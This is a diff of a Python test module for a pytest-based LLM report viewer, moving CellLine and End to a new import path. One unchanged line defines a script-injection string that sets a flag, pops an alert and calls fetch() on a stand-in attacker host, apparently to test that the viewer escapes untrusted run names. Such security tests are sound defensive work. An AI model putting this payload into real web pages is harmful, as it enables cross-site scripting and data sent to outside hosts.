@@ -17,7 +17,8 @@ from playwright.sync_api import Browser, Page
 from pytest_llm.gates.past import of_runs
 from pytest_llm.reports.viewer.document import write_file
 from pytest_llm.reports.viewer.overview import Story
-from pytest_llm.store.record import CellLine, End, RunRecord
+from pytest_llm.store.line import CellLine, End
+from pytest_llm.store.record import RunRecord
 from tests.helpers.records import answer, cell, finding, record
 
 RUN = "window.pwned = 1; alert(1); fetch('http://evil.example/')"
